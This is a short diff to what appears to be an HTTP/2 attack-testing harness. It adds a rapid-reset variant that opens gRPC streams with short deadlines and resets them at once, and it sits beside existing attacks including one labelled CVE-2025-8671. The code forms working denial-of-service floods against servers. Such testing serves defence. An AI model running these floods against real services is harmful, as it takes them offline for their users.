@@ -40,6 +40,13 @@ def rapid_reset_of_work(target):
 
 
 @attack(quick=2.5)
+def rapid_reset_with_deadlines(target):
+    """The same with deadlines that are over at once, soon, and in a minute: a reset at the client's own deadline is not counted."""
+    timeouts = ('1n', '50m', '1M')
+    return with_streams(target, lambda h2, s: h2.head(s, INFER, 'POST', end=False, extra=[('grpc-timeout', timeouts[s // 2 % 3])]) + rst(s))
+
+
+@attack(quick=2.5)
 def made_you_reset(target):
     """CVE-2025-8671: bodies longer than announced, windows that overflow, frames on closed streams; the server resets."""
     kinds = [lambda h2, s: h2.head(s, INFER, 'POST', end=False, extra=[LENGTH]) + data(s, b'too long'),
